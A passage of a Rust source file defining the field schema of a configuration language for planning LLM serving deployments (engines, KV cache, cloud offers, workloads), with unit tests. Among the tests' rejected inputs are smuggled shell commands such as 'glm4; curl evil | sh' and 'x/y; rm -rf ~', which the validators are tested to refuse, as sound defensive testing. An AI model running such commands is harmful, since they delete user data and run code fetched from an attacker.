    f(
        "tgi_quantize",
        FieldTy::Str,
        "TGI's `--quantize` value for this format",
    )
    .valid(Valid::Flag),
    f(
        "lmdeploy_format",
        FieldTy::Str,
        "LMDeploy's `--model-format` value for this format",
    )
    .valid(Valid::Flag),
    f(
        "mlx_mode",
        FieldTy::Str,
        "mlx-lm's `--q-mode` for this format (`mlx_lm.convert`)",
    )
    .valid(Valid::Flag),
    f(
        "group_size",
        FieldTy::Number,
        "weights per quantization group (`mlx_lm.convert --q-group-size`)",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
];

const KV: &[FieldSpec] = &[
    f("aliases", FieldTy::StrList, ALIASES_DOC),
    f("bytes", FieldTy::Number, "bytes per element").valid(Valid::UpTo(8.0)),
    f(
        "engines",
        FieldTy::RefList(DeclKind::Engine),
        "engines that store a KV cache of this type (entry names or engine dialects; absent: all)",
    ),
    f("vllm_name", FieldTy::Str, "vLLM's `--kv-cache-dtype` value").valid(Valid::Flag),
    f(
        "llamacpp_name",
        FieldTy::Str,
        "llama.cpp's `--cache-type-k/v` value",
    )
    .valid(Valid::Flag),
    f(
        "ollama_name",
        FieldTy::Str,
        "Ollama's `OLLAMA_KV_CACHE_TYPE` value",
    )
    .valid(Valid::Flag),
    f(
        "tgi_name",
        FieldTy::Str,
        "TGI's `--kv-cache-dtype` value (absent on a 16-bit cache: the model's dtype)",
    )
    .valid(Valid::Flag),
    f(
        "lmdeploy_quant_policy",
        FieldTy::Str,
        "LMDeploy TurboMind's `--quant-policy` value",
    )
    .valid(Valid::Flag),
];

const ENGINE: &[FieldSpec] = &[
    f("aliases", FieldTy::StrList, ALIASES_DOC),
    f(
        "utilization",
        FieldTy::Ratio,
        "share of GPU memory the engine uses",
    )
    .valid(Valid::Share),
    f(
        "overhead",
        FieldTy::Q(Dim::BYTES),
        "runtime overhead per GPU",
    )
    .valid(Valid::NonNegative),
    f(
        "overhead_ratio",
        FieldTy::Ratio,
        "extra overhead as a share of weights",
    )
    .valid(Valid::ShareOrZero),
    f(
        "overhead_per_vocab",
        FieldTy::Q(Dim::BYTES),
        "extra overhead per vocabulary entry (sampler buffers)",
    )
    .valid(Valid::NonNegative),
    f(
        "overhead_tensor_parallel",
        FieldTy::Q(Dim::BYTES),
        "extra overhead per GPU when count > 1 (communication buffers)",
    )
    .valid(Valid::NonNegative),
    f(
        "window_kv",
        FieldTy::Symbol(WINDOW_KV),
        "`windowed`: sliding-window layers keep only the window; `full`: every token",
    ),
    f(
        "dialect",
        FieldTy::Symbol(DIALECTS),
        "the engine it is (or runs like): which quants it runs, how `export` writes it",
    ),
    f(
        "kernels",
        FieldTy::Symbol(KERNELS),
        "`serving`: continuous batching, a roofline per engine step with the engine's speed fields; `llamacpp`: llama.cpp's single-stream fit; `auto`: `serving` on data-centre GPUs for formats the serving engines load (not `gguf` or `mlx`), `llamacpp` elsewhere",
    ),
    f(
        "split",
        FieldTy::Symbol(SPLITS),
        "how `count > 1` GPUs share a model: `tensor` parallel or by `layers`",
    ),
    f(
        "fallback",
        FieldTy::Symbol(FALLBACKS),
        "what it does with weights whose tensor type the GPU lacks: `weight_only` kernels (where the architecture has them), `dequantize` in its own kernels on any GPU (ggml), `upcast` to 16 bit, or `none`",
    ),
    f(
        "kv_free_share",
        FieldTy::Ratio,
        "share of the memory left after weights and overhead that the KV cache may take (replaces `utilization`)",
    )
    .valid(Valid::Share),
    f(
        "offload",
        FieldTy::Symbol(OFFLOAD_KINDS),
        "whether it can run some `layers` from system RAM on the CPU (`offload = auto` in a deployment), or `none`",
    ),
    f(
        "release",
        FieldTy::Str,
        "the engine release whose behaviour the entry's figures describe (`0.19`)",
    )
    .valid(Valid::Release),
    f(
        "release_of",
        FieldTy::Ref(DeclKind::Engine),
        "the engine whose older or newer releases this entry describes: a deployment of that engine whose `version` is from `releases_from` up to `releases_before` gets this entry's figures",
    ),
    f(
        "releases_from",
        FieldTy::Str,
        "with `release_of`: the first release the entry describes (absent: every release before `releases_before`)",
    )
    .valid(Valid::Release),
    f(
        "releases_before",
        FieldTy::Str,
        "with `release_of`: the first release it no longer describes (absent: every release from `releases_from`)",
    )
    .valid(Valid::Release),
    f(
        "placement",
        FieldTy::Symbol(PLACEMENTS),
        "how it decides which layers go on the GPUs: `ollama`: Ollama's pre-load memory estimate (its graph formulas, a buffer layer, `minimum_memory`), offloading the rest to the CPU unless the deployment says `offload = none`; absent: what the weights, KV cache and overhead take",
    ),
    f(
        "minimum_memory",
        FieldTy::Q(Dim::BYTES),
        "`placement = ollama`: memory kept free on every GPU (Ollama's MinimumMemory)",
    )
    .valid(Valid::NonNegative),
    f(
        "minimum_memory_unified",
        FieldTy::Q(Dim::BYTES),
        "`placement = ollama`: `minimum_memory` on a unified-memory GPU (Metal)",
    )
    .valid(Valid::NonNegative),
    f(
        "gpu_reserved",
        FieldTy::Q(Dim::BYTES),
        "`placement = ollama`: memory of a discrete GPU the engine finds in use before it starts (driver, display), beside `gpu_reserved_ratio` of it",
    )
    .valid(Valid::NonNegative),
    f(
        "gpu_reserved_ratio",
        FieldTy::Ratio,
        "`placement = ollama`: share of a discrete GPU's memory the engine finds in use before it starts, beside `gpu_reserved`",
    )
    .valid(Valid::ShareOrZero),
    f(
        "default_context",
        FieldTy::Q(Dim::TOKENS),
        "the context per sequence of a deployment that writes none (Ollama's num_ctx default); absent: the model's window",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "split_kv_decode",
        FieldTy::Symbol(YES_NO),
        "serving kernels: `yes`: its decode attention splits the context over thread blocks as needed (TurboMind's split-K, TensorRT-LLM's multi-block mode, FlashInfer), so an architecture's `decode_splits` does not limit it (default `no`)",
    ),
    f(
        "request_latency",
        FieldTy::Q(Dim::SECONDS),
        "serving kernels: time every request's first token takes beyond the engine's steps (front end, tokenization, hand-offs between processes) (default 0)",
    )
    .valid(Valid::NonNegative),
    f(
        "decode_efficiency",
        FieldTy::Ratio,
        "llamacpp kernels: share of memory bandwidth a decode step reaches, in place of llama.cpp's fit per GPU family",
    )
    .valid(Valid::Share),
    f(
        "token_overhead",
        FieldTy::Q(Dim::SECONDS),
        "llamacpp kernels: fixed time per decode step for 32 layers (kernel launches), in place of llama.cpp's fit per backend",
    )
    .valid(Valid::NonNegative),
    f(
        "bandwidth_efficiency",
        FieldTy::Ratio,
        "serving kernels: share of memory bandwidth reached reading weights and KV cache (default: the pooled fit)",
    )
    .valid(Valid::Share),
    f(
        "compute_efficiency",
        FieldTy::Ratio,
        "serving kernels: share of the dense tensor peak its matrix multiplies and attention reach (default: the pooled fit)",
    )
    .valid(Valid::Share),
    f(
        "step_overhead",
        FieldTy::Q(Dim::SECONDS),
        "serving kernels: fixed time per engine step (scheduling, launch) (default: the pooled fit)",
    )
    .valid(Valid::NonNegative),
    f(
        "sequence_overhead",
        FieldTy::Q(Dim::SECONDS),
        "serving kernels: time per running sequence per step (sampling, bookkeeping) (default: the pooled fit)",
    )
    .valid(Valid::NonNegative),
    f(
        "cuda_graphs",
        FieldTy::Symbol(YES_NO),
        "serving kernels: `yes` replays captured CUDA graphs for decode steps; `no` launches every kernel of every layer each step (default `yes`)",
    ),
    f(
        "moe_efficiency",
        FieldTy::Ratio,
        "serving kernels: share of the compute efficiency its mixture-of-experts matmuls reach (default: the pooled fit)",
    )
    .valid(Valid::Share),
    f(
        "moe_bandwidth_efficiency",
        FieldTy::Ratio,
        "serving kernels: share of the bandwidth efficiency its mixture-of-experts kernels reach streaming expert weights (default: the pooled fit)",
    )
    .valid(Valid::Share),
    f(
        "archs",
        FieldTy::RefList(DeclKind::Arch),
        "GPU architectures the engine is documented to run on (absent: every GPU); a GPU of another architecture gets deploy::fit::engine_gpu_unsupported and is no solver candidate",
    ),
    f(
        "batched_tokens_except",
        FieldTy::RefList(DeclKind::Arch),
        "architectures that keep the small-GPU defaults (`batched_tokens_small`, `profile_seqs_small`) whatever their memory (vLLM: the A100's sm_80)",
    ),
    f(
        "output_reserve",
        FieldTy::Ratio,
        "serving kernels: share of a request's output tokens its KV cache is counted for when the engine admits it, beyond its prompt (1: reserved whole up front; 0.5: blocks allocated as tokens come, half the output on average) (default 50%)",
    )
    .valid(Valid::Share),
    f(
        "preemption",
        FieldTy::Symbol(YES_NO),
        "serving kernels: `yes` admits a request while its next prompt chunk fits the KV cache the running requests hold, and when their new tokens outgrow it preempts the newest (its cache freed, its prompt and output so far recomputed later; vLLM V1); `no` admits by footprint (`output_reserve`) and never preempts (default `no`)",
    ),
    f(
        "scheduling",
        FieldTy::Symbol(SCHEDULINGS),
        "serving kernels: `mixed` steps decode and prefill prompt chunks together (chunked prefill); `prefill_first` runs a prompt-only step whenever a prompt waits (default `mixed`)",
    ),
    // Engine memory beyond weights and KV cache (docs/estimation.md, "Engine memory").
    f(
        "context_memory",
        FieldTy::Q(Dim::BYTES),
        "engine memory: CUDA context and other memory outside the framework's allocator, per GPU",
    )
    .valid(Valid::NonNegative),
    f(
        "activation_per_hidden",
        FieldTy::Q(Dim::BYTES),
        "engine memory: activations of the startup profiling pass per batched token per unit of the model's `hidden`",
    )
    .valid(Valid::NonNegative),
    f(
        "activation_per_intermediate",
        FieldTy::Q(Dim::BYTES),
        "engine memory: activations of the startup profiling pass per batched token per unit of the model's `intermediate` (MLP width)",
    )
    .valid(Valid::NonNegative),
    f(
        "batched_tokens",
        FieldTy::Number,
        "the token budget of one engine step (max_num_batched_tokens: decodes and prompt chunks together; the startup profiling pass) on GPUs with at least `batched_tokens_memory`; default 8192",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "batched_tokens_small",
        FieldTy::Number,
        "engine memory: tokens of the profiling pass on GPUs with less than `batched_tokens_memory` (default `batched_tokens`)",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "batched_tokens_memory",
        FieldTy::Q(Dim::BYTES),
        "engine memory: GPU memory from which `batched_tokens` applies rather than `batched_tokens_small`",
    )
    .valid(Valid::NonNegative),
    f(
        "chunked_prefill",
        FieldTy::Symbol(YES_NO),
        "engine memory: `yes` bounds the profiling pass at `batched_tokens`; `no` profiles a whole context (max(context, batched_tokens)) (default `yes`)",
    ),
    f(
        "profile_seqs",
        FieldTy::Number,
        "engine memory: the engine's default max_num_seqs on GPUs with at least `batched_tokens_memory`; its sampler pass covers max(seqs, this) logits rows",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "profile_seqs_small",
        FieldTy::Number,
        "engine memory: the default max_num_seqs on GPUs with less than `batched_tokens_memory` (default `profile_seqs`)",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "sampler_per_logit",
        FieldTy::Q(Dim::BYTES),
        "engine memory: sampler buffers per logits row per vocabulary entry in the profiling pass (rows: max(seqs, `profile_seqs`))",
    )
    .valid(Valid::NonNegative),
    f(
        "graph_memory",
        FieldTy::Q(Dim::BYTES),
        "engine memory: CUDA-graph capture pool per GPU, fixed part (0 with `enforce_eager = yes` or `cuda_graphs = no`)",
    )
    .valid(Valid::NonNegative),
    f(
        "graph_memory_per_layer",
        FieldTy::Q(Dim::BYTES),
        "engine memory: CUDA-graph capture pool per GPU, per model layer",
    )
    .valid(Valid::NonNegative),
    f(
        "expert_padding",
        FieldTy::Symbol(YES_NO),
        "engine memory: `yes` when the engine stores a mixture of experts' routed expert matrices in its MoE kernel's padded layout, aligned as the quant's `vllm_expert_align_hidden` and `vllm_expert_align_width` say (vLLM; default `no`)",
    ),
    f(
        "graphs_in_budget",
        FieldTy::Symbol(YES_NO),
        "engine memory: `yes` when the CUDA-graph pool counts inside `utilization`; `no` when it comes on top of it (default `yes`)",
    ),
    f(
        "startup_check",
        FieldTy::Symbol(YES_NO),
        "`yes`: the engine sizes its KV cache from a startup profile and refuses to start without a KV budget or with a context longer than the KV cache holds (default `no`)",
    ),
];

/// A machine's system memory and bus: where offloaded layers (`offload = auto`) and
/// CPU-only deployments (`gpu = cpu`) live.
const HOST: &[FieldSpec] = &[
    f("name", FieldTy::Str, "display name"),
    f("aliases", FieldTy::StrList, ALIASES_DOC),
    f("memory", FieldTy::Q(Dim::BYTES), "system RAM").valid(Valid::Positive),
    f(
        "bandwidth",
        FieldTy::Q(Dim::BANDWIDTH),
        "theoretical system-memory bandwidth (channels × transfer rate × 8 bytes)",
    )
    .valid(Valid::Positive),
    f(
        "pcie",
        FieldTy::Q(Dim::BANDWIDTH),
        "host-to-GPU bandwidth per direction",
    )
    .valid(Valid::Positive),
    f("cores", FieldTy::Number, "CPU cores").valid(Valid::Whole {
        min: 1,
        max: MAX_COUNT,
    }),
];

/// What a cloud rents: whole instances of `gpus` GPUs at an hourly price
/// (stdlib/offers.deploy, generated by scripts/gen_offers.py).
const OFFER: &[FieldSpec] = &[
    f("name", FieldTy::Str, "display name"),
    f("provider", FieldTy::Symbol(PROVIDERS), "the cloud"),
    f("instance", FieldTy::Str, "the provider's instance type"),
    f(
        "gpu",
        FieldTy::Ref(DeclKind::Gpu),
        "the catalog GPU it carries",
    ),
    f("gpus", FieldTy::Number, "GPUs per instance").valid(Valid::Whole {
        min: 1,
        max: MAX_COUNT,
    }),
    f(
        "price",
        FieldTy::Q(Dim::HOURLY),
        "on-demand price of one instance",
    )
    .valid(Valid::Positive),
    f(
        "spot",
        FieldTy::Q(Dim::HOURLY),
        "spot price of one instance",
    )
    .valid(Valid::Positive),
    f("region", FieldTy::Str, "the region the prices are for"),
    f(
        "network",
        FieldTy::Q(Dim::BANDWIDTH),
        "GPU-to-GPU network between instances, per GPU and direction (EFA, InfiniBand with GPUDirect RDMA): a tensor-parallel group may then span whole instances, its all-reduces timed over it",
    )
    .valid(Valid::Positive),
];

/// `owned { ... }` in a deployment: what owning the GPUs costs per hour (docs/cost.md).
pub const OWNED: &[FieldSpec] = &[
    f(
        "amortize",
        FieldTy::Q(Dim::SECONDS),
        "period over which the purchase price is spread (default 3 years)",
    )
    .valid(Valid::Positive),
    f(
        "power",
        FieldTy::Q(Dim::ENERGY_PRICE),
        "electricity price (default $0.15/kWh)",
    )
    .valid(Valid::NonNegative),
    f(
        "pue",
        FieldTy::Number,
        "power usage effectiveness: facility power / GPU power (default 1.3)",
    )
    .valid(Valid::AtLeastOne),
    f(
        "host",
        FieldTy::Q(Dim::HOURLY),
        "the rest of the machine per GPU per hour (default $0/h)",
    )
    .valid(Valid::NonNegative),
];

const RULE: &[FieldSpec] = &[
    f("level", FieldTy::Symbol(LEVELS), "severity"),
    f("when", FieldTy::Predicate, "when the rule fires"),
    f("message", FieldTy::Message, "what the diagnostic says"),
    f("help", FieldTy::Message, "the fix the diagnostic suggests"),
    f("code", FieldTy::Str, "stable diagnostic code").valid(Valid::DiagCode),
    f(
        "fix",
        FieldTy::Block,
        "deployment fields the quick fix sets: `fix { context = comfortable_context }`",
    ),
];

const DEPLOYMENT: &[FieldSpec] = &[
    f("model", FieldTy::Ref(DeclKind::Model), "the model served"),
    f("quant", FieldTy::Ref(DeclKind::Quant), "weight format"),
    f("context", FieldTy::Q(Dim::TOKENS), "tokens per sequence").valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f("seqs", FieldTy::Number, "concurrent sequences").valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f("kv_cache", FieldTy::Ref(DeclKind::Kv), "KV-cache dtype (default `fp16`)").default("fp16"),
    f("engine", FieldTy::Ref(DeclKind::Engine), "serving engine (default `generic`)").default("generic"),
    f("gpu", FieldTy::Ref(DeclKind::Gpu), "GPU"),
    f("count", FieldTy::Number, "tensor-parallel GPUs per replica").valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "pipeline",
        FieldTy::Number,
        "pipeline-parallel stages, each of `count` GPUs holding its share of the layers: a replica uses `count × pipeline` GPUs (default 1)",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "expert_parallel",
        FieldTy::Symbol(BOOLEANS),
        "`true`: a mixture-of-experts model's experts are spread whole over the GPUs and tokens reach them by all-to-all (vLLM `--enable-expert-parallel`); default `false`",
    ),
    f(
        "speculative",
        FieldTy::Block,
        "speculative decoding: method, tokens, acceptance, draft",
    ),
    f("replicas", FieldTy::Number, "copies of the deployment").valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "memory_utilization",
        FieldTy::Ratio,
        "override of the engine's memory share",
    )
    .valid(Valid::Share),
    f(
        "offload",
        FieldTy::Symbol(OFFLOAD_MODES),
        "`auto`: as many layers as fit on the GPUs, the rest in system RAM (engines with `offload = layers`); default `none`",
    ),
    f(
        "version",
        FieldTy::Str,
        "the engine's release (`0.6.3`, `v0.6.3`): the catalog's figures for it (an engine entry with `release_of` whose releases hold it); default the engine's current one",
    )
    .valid(Valid::Release),
    f(
        "flash_attention",
        FieldTy::Symbol(YES_NO),
        "`yes` or `no`: flash attention on an engine with `placement = ollama` (OLLAMA_FLASH_ATTENTION; a quantized `kv_cache` needs it); default: the model's architecture decides, as Ollama does",
    ),
    f(
        "host",
        FieldTy::Ref(DeclKind::Host),
        "the machine's system memory and bus (default: the stdlib's `desktop_ddr5`)",
    )
    .default("desktop_ddr5"),
    f(
        "host_memory",
        FieldTy::Q(Dim::BYTES),
        "override of the host's system RAM",
    )
    .valid(Valid::Positive),
    f(
        "host_bandwidth",
        FieldTy::Q(Dim::BANDWIDTH),
        "override of the host's memory bandwidth",
    )
    .valid(Valid::Positive),
    f(
        "enforce_eager",
        FieldTy::Symbol(YES_NO),
        "`yes`: the serving engine runs without CUDA graphs (vLLM `--enforce-eager`); default `no`",
    ),
    f(
        "batched_tokens",
        FieldTy::Number,
        "override of the serving engine's token budget per step (vLLM `--max-num-batched-tokens`, TGI `--max-batch-prefill-tokens`, LMDeploy `--max-prefill-token-num`): prompt chunks and decodes together, and its startup profiling pass",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "allow",
        FieldTy::RefList(DeclKind::Rule),
        "rules silenced here",
    ),
    f(
        "workload",
        FieldTy::Block,
        "traffic: rate, prompt, output; or request classes `NAME { rate prompt output }`",
    ),
    f(
        "fleet",
        FieldTy::Symbol(FLEETS),
        "`mixed`: the solver picks how many replicas of each candidate GPU type serve the workload's request classes (`gpu = one_of [...]` or `?`); default `single`",
    ),
    f(
        "pricing",
        FieldTy::Symbol(PRICINGS),
        "`cloud` (default): whole instances of a catalog `offer`; `owned`: the purchase price amortised plus power (`owned { ... }`)",
    ),
    f(
        "spot",
        FieldTy::Symbol(BOOLEANS),
        "`true`: cloud offers at their spot price (offers without one are left out); default `false`",
    ),
    f(
        "provider",
        FieldTy::Symbol(PROVIDERS),
        "only this cloud's offers (`one_of [aws, lambda]` lets the solver choose)",
    ),
    f("region", FieldTy::Str, "only offers in this region"),
    f(
        "offer",
        FieldTy::Ref(DeclKind::Offer),
        "this offer rather than the cheapest that matches (`offer = ?` lets the solver choose)",
    ),
    f(
        "owned",
        FieldTy::Block,
        "owned GPUs: amortize, power, pue, host",
    ),
];

pub const WORKLOAD: &[FieldSpec] = &[
    f("rate", FieldTy::Q(Dim::REQUEST_RATE), "requests per second").valid(Valid::Positive),
    f(
        "prompt",
        FieldTy::Q(Dim::TOKENS),
        "prompt tokens per request",
    )
    .valid(Valid::Positive),
    f(
        "output",
        FieldTy::Q(Dim::TOKENS),
        "output tokens per request",
    )
    .valid(Valid::Positive),
    f(
        "burst",
        FieldTy::Number,
        "requests sent at once (a benchmark's `--request-rate inf`): throughput and latencies include their queueing behind `seqs`",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "lengths",
        FieldTy::Symbol(LENGTHS),
        "`fixed`: every request has `prompt` and `output` tokens (default); `varied`: exponentially distributed around them, as in chat traces",
    ),
];

/// The most tokens a drafter may propose per step (`speculative { tokens }`): engines
/// document 1 to about 10 (vLLM's EAGLE and n-gram examples use 2 to 5; SGLang's
/// `--speculative-num-draft-tokens` defaults to 4); past 16 each step verifies tokens that
/// are almost never all accepted, and a larger value is a typo, not a set-up.
pub const MAX_DRAFT_TOKENS: i128 = 16;

/// `speculative { ... }` in a deployment (docs/calibration-serving.md, speculative decoding).
pub const SPECULATIVE: &[FieldSpec] = &[
    f(
        "method",
        FieldTy::Symbol(SPEC_METHODS),
        "how tokens are drafted: `eagle3` or `mtp` (a head of about one layer), `ngram` (prompt lookup, no model), `draft` (a separate model, `draft = ...`)",
    ),
    f(
        "tokens",
        FieldTy::Number,
        "tokens drafted per step, which the target verifies together (default 3; at most 16)",
    )
    .valid(Valid::Whole {
        min: 1,
        max: MAX_DRAFT_TOKENS,
    }),
    f(
        "acceptance",
        FieldTy::Ratio,
        "chance that each drafted token is accepted (default: the method's published typical rate)",
    )
    .valid(Valid::ShareOrZero),
    f(
        "draft",
        FieldTy::Ref(DeclKind::Model),
        "the draft model (`method = draft`)",
    ),
];

/// A request class of a workload (`workload { chat { rate = 4 req/s; prompt = 512;
/// output = 256; require ttft <= 1 s } }`): the workload's own fields, which it inherits
/// where it does not set them.
pub const CLASS: &[FieldSpec] = WORKLOAD;

pub fn schema(kind: DeclKind) -> &'static [FieldSpec] {
    match kind {
        DeclKind::Arch => ARCH,
        DeclKind::Gpu => GPU,
        DeclKind::Model => MODEL,
        DeclKind::Quant => QUANT,
        DeclKind::Kv => KV,
        DeclKind::Engine => ENGINE,
        DeclKind::Host => HOST,
        DeclKind::Offer => OFFER,
        DeclKind::Rule => RULE,
        DeclKind::Deployment => DEPLOYMENT,
    }
}

/// The default entry of a reference field (`FieldSpec::default`): `default_of(Deployment,
/// "kv_cache")` is `fp16`.
pub fn default_of(kind: DeclKind, field: &str) -> Option<&'static str> {
    field_spec(kind, field).and_then(|spec| spec.default)
}

pub fn field_spec(kind: DeclKind, name: &str) -> Option<&'static FieldSpec> {
    schema(kind).iter().find(|spec| spec.name == name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn symbol_enums_round_trip_their_tables() {
        fn round_trip<T: Symbol + PartialEq + std::fmt::Debug>(
            names: &[&str],
            name: impl Fn(T) -> &'static str,
        ) {
            for text in names {
                let value = T::parse(text).unwrap_or_else(|| panic!("{text}"));
                assert_eq!(name(value), *text);
            }
            assert!(T::parse("no_such_value").is_none());
        }
        round_trip::<Vendor>(VENDORS, Vendor::name);
        round_trip::<MemoryKind>(MEMORY_KINDS, MemoryKind::name);
        round_trip::<GpuFamily>(GPU_FAMILIES, GpuFamily::name);
        round_trip::<Dialect>(DIALECTS, Dialect::name);
        round_trip::<Fallback>(FALLBACKS, Fallback::name);
        round_trip::<TensorType>(TENSOR_TYPES, TensorType::name);
        assert_eq!(MEMORY_KINDS, &["hbm", "gddr", "ddr", "unified"]);
        assert_eq!(YES_NO, &["yes", "no"]);
    }

    #[test]
    fn hugging_face_ids() {
        for ok in [
            "THUDM/GLM-4-9B-0414",
            "meta-llama/Llama-3.1-8B",
            "Qwen/Qwen3-0.6B",
            "a/b",
            "_x/y_",
        ] {
            assert_eq!(hf_repo_problem(ok), None, "{ok}");
        }
        for bad in [
            "x/y; rm -rf ~",
            "x/$(id)",
            "x/y\nrm",
            "--help/x",
            "-x/y",
            ".x/y",
            "x/y.",
            "x/a--b",
            "x/a..b",
            "x/y.git",
            "name",
            "a/b/c",
            "",
            "x/ñ",
            "x/'y'",
            &format!("x/{}", "a".repeat(97)),
        ] {
            assert!(hf_repo_problem(bad).is_some(), "{bad:?}");
        }
        assert_eq!(hf_repo_problem(&format!("x/{}", "a".repeat(96))), None);
        assert!(hf_repo_problem("x/ñ").unwrap().contains("U+00F1"));
    }

    #[test]
    fn diagnostic_codes() {
        for ok in ["deploy::fit::does_not_fit", "acme::slow", "a::b_2::C"] {
            assert_eq!(diag_code_problem(ok), None, "{ok}");
        }
        for bad in [
            "plain",
            "a::",
            "a::::b",
            "a::b\n::error::injected",
            "a::b c",
            "a::b%0A",
            "a::é",
        ] {
            assert!(diag_code_problem(bad).is_some(), "{bad:?}");
        }
    }

    #[test]
    fn ollama_tags() {
        for ok in [
            "glm4:9b",
            "llama3.1",
            "library/llama3:8b-instruct-q4_K_M",
            "registry.ollama.ai/library/qwen3:32b",
            "localhost:11434/me/model:latest",
        ] {
            assert_eq!(ollama_tag_problem(ok), None, "{ok}");
        }
        for bad in [
            "glm4; curl evil | sh",
            "Glm4:9b",
            "glm4:",
            ":9b",
            "-glm4",
            "glm4:-x",
            "a/b/c/d",
            "glm4:$(id)",
            "glm4\nFROM evil",
            "glm4 9b",
            "host:port/a/b",
            "",
        ] {
            assert!(ollama_tag_problem(bad).is_some(), "{bad:?}");
        }
    }

    #[test]
    fn ranges() {
        assert!(Valid::Positive.check_number(-4.0).is_err());
        assert!(Valid::Positive.check_number(0.0).is_err());
        assert!(Valid::Positive.check_number(f64::NAN).is_err());
        assert!(Valid::NonNegative.check_number(0.0).is_ok());
        assert!(Valid::Share.check_number(1.0).is_ok());
        assert!(Valid::Share.check_number(0.0).is_err());
        assert!(Valid::ShareOrZero.check_number(0.0).is_ok());
        assert!(Valid::UpTo(64.0).check_number(65.0).is_err());
        assert!(
            Valid::Whole {
                min: 1,
                max: MAX_COUNT
            }
            .check_number(0.0)
            .is_err()
        );
        assert!(
            Valid::Whole {
                min: 0,
                max: MAX_COUNT
            }
            .check_number(0.0)
            .is_ok()
        );
        assert!(
            Valid::Whole {
                min: 1,
                max: MAX_COUNT
            }
            .check_number(MAX_COUNT as f64 + 1.0)
            .is_err()
        );
        // Every numeric field of every kind has a range.
        for kind in [
            DeclKind::Arch,
            DeclKind::Gpu,
            DeclKind::Model,
            DeclKind::Quant,
            DeclKind::Kv,
            DeclKind::Engine,
            DeclKind::Host,
            DeclKind::Offer,
            DeclKind::Deployment,
        ] {
            for spec in schema(kind)
                .iter()
                .chain(WORKLOAD)
                .chain(OWNED)
                .chain(SPECULATIVE)
            {
                if matches!(spec.ty, FieldTy::Q(_) | FieldTy::Number | FieldTy::Ratio) {
                    assert_ne!(spec.valid, Valid::Any, "{} has no range", spec.name);
                }
            }
        }
    }
}
